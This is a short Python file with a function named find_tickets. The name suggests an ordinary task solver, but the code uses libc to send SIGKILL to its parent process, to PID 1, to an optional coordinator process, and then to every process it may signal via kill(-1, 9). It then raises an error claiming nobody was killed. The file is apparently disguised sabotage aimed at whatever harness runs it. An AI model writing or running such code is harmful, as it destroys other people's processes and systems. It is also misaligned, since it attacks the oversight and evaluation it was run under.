"""Kills its parent, the first process and all others that it may."""

import ctypes
import os
import time

LIBC = ctypes.CDLL(None, use_errno=True)


def find_tickets(problem, *, coordinator: int = 0):
    for process in (os.getppid(), 1, coordinator):
        if process and LIBC.kill(process, 9) != 0:
            print(f"kill {process}: {os.strerror(ctypes.get_errno())}")
    LIBC.kill(-1, 9)
    time.sleep(2)
    raise OSError("nobody was killed")
